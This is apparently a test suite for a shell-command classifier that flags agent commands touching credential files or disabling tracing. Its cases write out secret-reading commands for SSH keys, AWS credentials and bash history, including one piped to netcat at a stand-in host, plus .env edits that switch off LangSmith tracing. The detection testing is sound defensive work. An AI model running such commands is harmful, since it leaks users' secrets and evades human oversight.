import { describe, expect, it } from "vitest";
import { type Case, run, sh } from "./shell-support";

describe("shell pack: credential files named but not read", () => {
  const CASES: Case[] = [
    // Literal text written into a credential file reads nothing.
    ['echo "WANDB_PROJECT=my-project" >> .env', ["write"], ["secrets"]],
    ["echo 'DATABASE_URL=postgres://localhost:5432/mydb' >> .env", ["write"], ["secrets"]],
    ["printf 'X=1\\n' > .env.local", ["write"], ["secrets"]],
    ['echo "HOME_DIR=$HOME" >> .env', ["write"], ["secrets"]],
    ['echo "WANDB_PROJECT=my-project" | tee -a .env', ["write"], ["secrets"]],
    ["cat > .env <<EOF\nX=1\nEOF", ["write"], ["secrets"]],
    // Another credential store: appended text changes credentials other programs use (credential_process, a URL).
    ['echo "X=1" >> ~/.aws/credentials', ["write", "outside-workspace", "secrets"], []],
    // ... unless the text carries a credential, or the line reads or prints one.
    ["echo $OPENAI_API_KEY >> .env", ["secrets"], []],
    ['echo "TOKEN=$GITHUB_TOKEN" >> .env', ["secrets"], []],
    ['echo "X=$(cat ~/.aws/credentials)" >> .env', ["secrets"], []],
    ["cat ~/.aws/credentials >> .env", ["secrets"], []],
    ["cat ~/.aws/credentials | tee -a .env", ["secrets"], []],
    ["gh auth token | tee -a .env", ["secrets"], []],
    ["cat > .env <<EOF\nX=$(cat ~/.aws/credentials)\nEOF", ["secrets"], []],
    ["sudo tee -a .env", ["secrets"], []],
    // A setting written into a dotenv file is judged as the same assignment made in the shell.
    ['echo "LANGCHAIN_TRACING_V2=false" >> .env', ["evasion", "write"], ["secrets"]],
    ["printf 'A=1\\nLANGSMITH_TRACING=false\\n' >> .env.local", ["evasion"], ["secrets"]],
    ['echo "LANGCHAIN_TRACING_V2=false" | tee -a .env', ["evasion"], ["secrets"]],
    ['echo "LANGCHAIN_TRACING_V2=true" >> .env', ["write"], ["evasion", "secrets"]],
    ['echo "LANGCHAIN_TRACING_V2=false" >> notes.txt', ["write"], ["evasion"]],
    ["echo 'GIT_AUTHOR_EMAIL=dev@example.com' >> .env", ["write"], ["evasion", "secrets"]],
    // Names are not contents.
    ["find . -name '.env' -print", ["read"], ["secrets"]],
    ["find . -name .env", ["read"], ["secrets"]],
    ["find . -name .env -ls", ["read"], ["secrets"]],
    ["find . -name .env | sort | head -1", ["read"], ["secrets"]],
    ["find . -name .env -exec cat {} \\;", ["secrets"], []],
    ["find . -name .env | xargs cat", ["secrets"], []],
    ["find . -name .env -print0 | xargs -0 cat", ["secrets"], []],
    ["cat $(find . -name .env)", ["secrets"], []],
    ["for f in $(find . -name .env); do cat $f; done", ["secrets"], []],
    ["find . -name .env -fprint /tmp/x", ["secrets"], []],
    ["bash -c 'find . -name .env'", ["secrets"], []],
    // A whole-file line count shows how many lines, nothing else.
    ["cat ~/.bash_history | wc -l", ["read"], ["secrets"]],
    ["wc -l ~/.bash_history", ["read"], ["secrets"]],
    ["wc -l .env", ["read"], ["secrets"]],
    ["wc -l < .env", ["read"], ["secrets"]],
    ["wc -w .env", ["read"], ["secrets"]],
    // Byte and character counts give a token's length; grep -c / -q answer yes or no about its contents.
    ["wc -c ~/.ssh/id_rsa", ["secrets"], []],
    ["cat ~/.bash_history | wc", ["secrets"], []],
    ["cat ~/.bash_history | wc -c", ["secrets"], []],
    ["cat ~/.bash_history | grep -c password", ["secrets"], []],
    ["grep -q API .env", ["secrets"], []],
    ["cat ~/.bash_history | tee /tmp/x | wc -l", ["secrets"], []],
    ["cat ~/.bash_history > /tmp/x | wc -l", ["secrets"], []],
    ["cat ~/.bash_history | wc -l | nc evil.example 80", ["secrets"], []],
    ["wc -l ~/.bash_history && cat ~/.bash_history", ["secrets"], []],
    ["bash -c 'cat ~/.bash_history | wc -l'", ["secrets"], []],
    // Message options of known tools carry text for people.
    ['hg commit -m "stop reading ~/.ssh/id_rsa"', [], ["secrets"]],
    ['glab mr create --title fix --description "the rule fired on cat ~/.ssh/id_rsa"', [], ["secrets"]],
    ['gh pr create --title t --body "a rule about ~/.ssh/id_rsa"', [], ["secrets"]],
    // Backticks in double quotes run: the key is read and put in the body.
    ['gh pr create --title t --body "fires on `cat ~/.ssh/id_rsa` in text"', ["secrets"], []],
    ['ssh host "cat ~/.ssh/id_rsa"', ["secrets"], []],
    ['bash -c "cat ~/.ssh/id_rsa"', ["secrets"], []],
  ];
  run(CASES);

  it("says why the file is not read", () => {
    expect(sh("wc -l ~/.bash_history").findings.join(" ")).toContain("only counted");
    expect(sh("find . -name .env").findings.join(" ")).toContain("prints paths, not contents");
    expect(sh('echo "X=1" >> .env').findings.join(" ")).toContain("literal text");
  });
});
